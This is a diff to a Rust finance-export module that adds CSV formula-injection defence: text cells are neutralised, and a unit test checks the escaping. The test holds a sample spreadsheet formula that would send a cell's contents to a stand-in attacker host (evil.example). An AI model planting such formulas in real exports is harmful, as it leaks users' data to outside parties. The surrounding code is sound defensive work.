@@ -1,11 +1,16 @@
 //! Finance exports: yearly totals, totals over a period, the grants of a year; JSON, CSV or
-//! XLSX.
+//! XLSX. A row of CSV and a row of XLSX are written from the same typed [`Cell`]s: in CSV, a
+//! text cell goes through [`neutralise`] (no cell a spreadsheet runs as a formula), numbers and
+//! dates are written as Essor formats them; in XLSX, a text cell is a string cell, which no
+//! spreadsheet runs.
 
 pub mod annual_totals;
 pub mod dto;
 pub mod grants;
 pub mod period_totals;
 pub mod scdl;
+
+use std::borrow::Cow;
 
 use actix_web::http::header;
 use actix_web::{web, HttpRequest, HttpResponse};
@@ -16,6 +21,7 @@ use serde::de::DeserializeOwned;
 use self::dto::ExportFormat;
 use crate::auth::Role;
 use crate::domain::money::{FIRST_YEAR, LAST_YEAR};
+use crate::domain::spreadsheet::neutralise;
 use crate::domain::FieldError;
 use crate::domain::{Lang, Text};
 use crate::error::{ApiError, ApiResult};
@@ -119,14 +125,32 @@ pub fn negotiate(req: &HttpRequest, format: Option<ExportFormat>) -> ExportForma
         .unwrap_or(ExportFormat::Json)
 }
 
-/// RFC 4180 CSV (CRLF line ends), UTF-8: the header, then the records.
-pub fn csv_document(header: &[String], records: &[Vec<String>]) -> ApiResult<Vec<u8>> {
+/// RFC 4180 CSV (CRLF line ends), UTF-8: the header, then the rows (see [`write_csv_row`]).
+pub fn csv_document(header: &[String], rows: &[Vec<Cell<'_>>]) -> ApiResult<Vec<u8>> {
     let mut writer = csv_writer(Vec::new());
     writer.write_record(header).map_err(|e| ApiError::internal_from("writing CSV", e))?;
-    for record in records {
-        writer.write_record(record).map_err(|e| ApiError::internal_from("writing CSV", e))?;
+    for row in rows {
+        write_csv_row(&mut writer, row).map_err(|e| ApiError::internal_from("writing CSV", e))?;
     }
     writer.into_inner().map_err(|e| ApiError::internal("writing CSV", e))
+}
+
+/// A cell as a CSV field: text [`neutralise`]d, so that no spreadsheet runs it as a formula;
+/// integers and cents as integers (`-5` is a number, not a formula), dates `YYYY-MM-DD`,
+/// nothing as an empty field.
+pub fn csv_field<'a>(cell: &Cell<'a>) -> Cow<'a, str> {
+    match *cell {
+        Cell::None | Cell::Date(None) => Cow::Borrowed(""),
+        Cell::Text(text) => neutralise(text),
+        Cell::Integer(n) | Cell::Cents(n) => Cow::Owned(n.to_string()),
+        Cell::Date(Some(date)) => Cow::Owned(date.to_string()),
+    }
+}
+
+/// One CSV record from typed cells: the only way the exports write a row of data.
+pub fn write_csv_row<W: std::io::Write>(writer: &mut csv::Writer<W>, cells: &[Cell<'_>]) -> csv::Result<()> {
+    let fields: Vec<Cow<'_, str>> = cells.iter().map(csv_field).collect();
+    writer.write_record(fields.iter().map(|f| f.as_bytes()))
 }
 
 /// A CSV writer as RFC 4180 says: CRLF, quotes where needed.
@@ -266,5 +290,31 @@ impl Sheet {
         let mut out = Vec::new();
         self.workbook.save_to_writer(&mut out).map_err(xlsx_error)?;
         Ok(out)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn csv_neutralises_text_cells_only() {
+        let date = NaiveDate::from_ymd_opt(2026, 3, 12);
+        let cells = [
+            Cell::Text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")"),
+            Cell::Text("-X"),
+            Cell::Text("Les Ateliers Solidaires"),
+            Cell::Integer(-5),
+            Cell::Cents(-1_234_56),
+            Cell::Date(date),
+            Cell::Date(None),
+            Cell::None,
+        ];
+        let header: Vec<String> = "abcdefgh".chars().map(String::from).collect();
+        let body = csv_document(&header, &[cells.to_vec()]).unwrap();
+        assert_eq!(
+            String::from_utf8(body).unwrap(),
+            "a,b,c,d,e,f,g,h\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\",'-X,Les Ateliers Solidaires,-5,-123456,2026-03-12,,\r\n"
+        );
     }
 }
